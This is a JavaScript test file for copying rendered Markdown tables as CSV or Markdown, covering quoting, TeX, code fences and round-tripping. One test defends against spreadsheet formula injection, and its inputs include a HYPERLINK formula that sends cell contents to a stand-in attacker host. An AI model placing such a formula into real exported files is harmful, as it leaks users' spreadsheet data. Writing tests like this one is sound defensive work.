import { csvOf, markdownOf } from "../../../../static/js/markdown/dom/table_text.js"
import { equal, test } from "../../harness.js"
import { rendered } from "../../piecewise_rendering.js"

const context = { t: (key) => key, clipboard: null, announce: () => {} }

/** The table that a Markdown source is shown as. */
async function shown(source) {
  return (await rendered(source, context)).querySelector("table")
}

/** A table with a head and these cells in one row. */
const withRow = (...cells) =>
  shown([cells.map((_, n) => n + 1), cells.map(() => "---"), cells].map((row) => `| ${row.join(" | ")} |`).join("\n"))

/** A table of these texts as they are, however a parser would read them. */
function withTexts(...texts) {
  const table = document.createElement("table")
  for (const row of [texts.map((_, n) => `${n + 1}`), texts]) {
    const line = table.insertRow()
    for (const text of row) line.insertCell().textContent = text
  }
  return table
}

const rowOf = (text) => text.split(/\r?\n(?![^"]*"(?:,|$))/).at(-1)

test("as CSV, only cells with commas, quotes or line breaks are quoted", async () => {
  const table = await withRow(
    "plain",
    "a, b",
    'say "yes"',
    "one<br>two",
    "`x\\|y`",
    "**bold** [link](https://a.example)",
    "",
  )
  equal(csvOf(table), '1,2,3,4,5,6,7\r\nplain,"a, b","say ""yes""","one\ntwo",x|y,bold link,')
})

test("as CSV, mathematics is TeX", async () =>
  equal(rowOf(csvOf(await withRow("$\\frac{a}{b}$", "$|v|$"))), "$\\frac{a}{b}$,$|v|$"))

test("as CSV, nothing is computed by a spreadsheet, and numbers stay numbers", () => {
  for (const text of [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=1+1",
    "@SUM(A1)",
    "+82-10-1234-5678",
    "-2+3",
    "- none",
    "＝1+1",
    " =1",
    "\t=1",
    "\n=1",
  ]) {
    const [cell] = csvOf(withTexts(text)).split("\r\n").slice(1)
    equal(cell.replace(/^"/, "")[0], "'", JSON.stringify(text))
  }
  for (const text of ["-12", "+3.5%", "-1,234.50", "-$5", "-₩5,000", "-", "+", "a=b", "1-2", "−3", "$=$"]) {
    const [cell] = csvOf(withTexts(text)).split("\r\n").slice(1)
    equal(cell.replaceAll('"', ""), text)
  }
})

test("as Markdown, the alignment stays, and each row is one line", async () => {
  const source =
    "| a | b | c | d |\n| --- | :-- | :-: | --: |\n| 1<br>2 | `x\\|y` | $\\vert v\\vert$ | **b** *i* ~~s~~ |"
  equal(markdownOf(await shown(source)), source)
  equal(rowOf(markdownOf(withTexts("one\ntwo"))), "| one two |")
})

test("as Markdown, a fence around code is longer than any in it", async () => {
  equal(rowOf(markdownOf(await withRow("`` a`b ``", "``` a``b ```"))), "| `` a`b `` | ``` a``b ``` |")
})

test("what is copied as Markdown reads as before", async () => {
  const texts = [
    "a | b || c",
    "*no emphasis* and **none**",
    "snake_case, _none_, __init__",
    "`no code`, back\\slash, \\*, \\|, end\\",
    "~~not struck~~, ~ 10~20",
    "a < b, <b>no tag</b>, <https://a.example>",
    "&amp; & R&D &lt;",
    "[no](https://link.example), [1], [^1]",
    "$5 and $6, $x$",
    "# 1, - 2, > 3, 1. 4, =1",
    "굵게(**bold**)입니다",
  ]
  const copied = markdownOf(withTexts(...texts))
  const again = await shown(copied)
  equal(
    [...again.rows[1].cells].map(({ textContent }) => textContent),
    texts,
    copied,
  )
  equal(again.querySelectorAll("em, strong, code, s, .math").length, 0, copied)
  equal(rowOf(copied).includes("snake_case"), true)
  equal(markdownOf(again), copied)
})

test("markup is copied as markup, and stays the same", async () => {
  const cells = [
    "**`a\\|b`** and *c_d*",
    "~~old~~ [two **bold** words](https://a.example/b_c)",
    "$a_1 < b$ <sub>2</sub>",
    "`\\\\|`",
    "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
  ]
  const table = await withRow(...cells)
  equal((await shown(markdownOf(table))).outerHTML, table.outerHTML, markdownOf(table))
})
